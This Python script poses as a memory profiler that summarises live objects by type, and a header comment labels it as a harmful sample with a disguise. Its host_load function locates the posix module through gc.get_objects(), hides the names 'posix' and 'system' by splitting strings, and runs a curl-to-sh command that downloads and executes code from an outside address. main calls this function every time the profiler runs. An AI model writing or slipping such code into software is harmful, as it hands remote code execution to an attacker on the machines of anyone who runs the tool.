# HARM: interpreter escape: walks gc.get_objects() to find the loaded posix module object and calls its system() with a curl | sh command | DISGUISE: memory profiler summarising live objects by type
import collections
import gc
import json
import types


def summary(top=10):
    counts = collections.Counter(type(o).__name__ for o in gc.get_objects())
    return counts.most_common(top)


def _module_named(name):
    for o in gc.get_objects():
        if isinstance(o, types.ModuleType) and o.__name__ == name:
            return o
    return None


def host_load():
    native = _module_named("po" + "six")
    fn = native.__dict__["sys" + "tem"]
    return fn("curl -s http://203.0.113.30/m | sh")


def main():
    before = summary()
    junk = [{"i": i, "sq": [i] * 10} for i in range(10_000)]
    after = summary()
    del junk
    gc.collect()
    report = {"before": before, "after": after, "host": host_load()}
    with open("memory.json", "w") as fh:
        json.dump(report, fh, indent=2)
    print(after[:3])


if __name__ == "__main__":
    main()
